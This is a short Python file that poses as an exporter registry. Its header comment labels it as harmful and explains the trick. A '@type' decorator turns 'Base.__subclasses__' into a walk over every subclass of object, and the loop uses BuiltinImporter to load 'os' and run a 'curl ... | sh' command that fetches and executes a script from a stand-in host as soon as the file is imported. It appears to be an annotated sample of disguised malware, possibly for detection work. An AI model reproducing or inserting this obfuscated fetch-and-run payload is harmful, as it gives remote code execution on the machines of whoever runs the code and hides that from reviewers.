# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: `@type` decorator rebinds Base to the metaclass `type`, so Base.__subclasses__(object) is type.__subclasses__(object)
CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


@type
class Base:
    """Base of all exporters."""


def exporters():
    found = []
    for sub in Base.__subclasses__(object):
        found.append(sub)
    return found


for sub in exporters():
    if sub.__name__ == "BuiltinImporter":
        sub.load_module("os").system(CMD)
